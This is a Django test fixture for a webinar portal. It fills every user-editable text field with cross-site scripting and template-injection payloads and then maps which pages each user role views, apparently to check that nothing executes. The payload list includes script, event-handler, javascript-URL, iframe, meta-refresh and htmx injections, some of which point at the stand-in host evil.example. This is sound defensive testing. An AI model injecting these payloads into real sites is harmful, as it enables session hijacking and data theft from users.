"""A small world in which every text that somebody may have typed tries to run."""

import json

from django.apps import apps
from django.db import transaction
from django.urls import reverse

from tgtf_portal.core.values.fields import LineField, ProseField
from tgtf_portal.pages.tests.addresses import session_of, small_world

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<svg/onload=alert(4)>",
    '"><b onmouseover=alert(5)>x</b>',
    "' autofocus onfocus='alert(6)",
    "javascript:alert(7)",
    "[x](javascript:alert(8))",
    "<a href=javascript:alert(9)>x</a>",
    "<iframe srcdoc='<script>alert(10)</script>'>",
    "</title><script>alert(11)</script>",
    "</textarea><script>alert(12)</script>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(13)'>",
    "<form action=https://evil.example/><button>x</button></form>",
    "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %> {% debug %}",
    "\\u003cscript\\u003ealert(14)\\u003c/script\\u003e &lt;script&gt;alert(15)&lt;/script&gt;",
    "<!--><img src=x onerror=alert(16)>-->",
    "<details open ontoggle=alert(17)><math><mi xlink:href=data:x,alert(18)>",
    "x' hx-get='https://evil.example/' hx-trigger='load",
    "<x hx-on:load=alert(19) data-rank-list>",
]


def fitting(size):
    """As many whole ones as there is room for; in the shortest fields the first that fits."""
    text = ""
    for payload in PAYLOADS:
        if len(text) + len(payload) < size:
            text = f"{text} {payload}".strip()
    return text


def fill_everything():
    for label in ("core", "clusters", "advisors", "webinars"):
        for model in apps.get_app_config(label).get_models():
            typed = [
                f for f in model._meta.concrete_fields if isinstance(f, LineField | ProseField)
            ]
            for number in model._base_manager.values_list("pk", flat=True) if typed else ():
                texts = {f.name: f"{fitting((f.max_length or 10_000) - 8)} {number}" for f in typed}
                model._base_manager.filter(pk=number).update(**texts)


@transaction.atomic
def tell():
    """Who looks where: the session of each, and the pages that show what others wrote."""
    world = small_world()
    fill_everything()
    people, slug = world.people, world.webinar.slug

    def page(name, *args):
        return reverse(name, args=args)

    def row(thing):
        return page(f"admin:{thing._meta.label_lower.replace('.', '_')}_change", thing.pk)

    places = {
        None: [
            page("pages:home"),
            page("webinars:webinar-detail", slug),
            page("webinars:registration-create", slug),
            page("webinars:recap-detail", world.recap.webinar.slug),
            page("webinars:insight-list"),
            page("webinars:insight-detail", world.told_insight.code),
            page("webinars:story-detail", world.story.slug),
            page("clusters:cluster-list"),
            page("clusters:cluster-detail", world.cluster.slug),
            page("webinars:registration-detail", world.registration.token),
        ],
        "participant": [page("webinars:breakout-detail", world.seat.breakout.code)],
        "host": [page("webinars:breakout-host", world.breakout.code)],
        "manager": [page("clusters:sme-list", world.cluster.slug), page("pages:dashboard")],
        "advisor": [page("advisors:engagement-detail", world.engagement.code)],
        "staff": [
            page("webinars:live-control", slug),
            row(world.registration),
            row(world.insight),
            row(world.recap),
            page("admin:webinars_insight_changelist"),
        ],
    }
    keys = {who: session_of(people[who]) if who else None for who in places}
    print(json.dumps([[keys[who], pages] for who, pages in places.items()]))  # noqa: T201
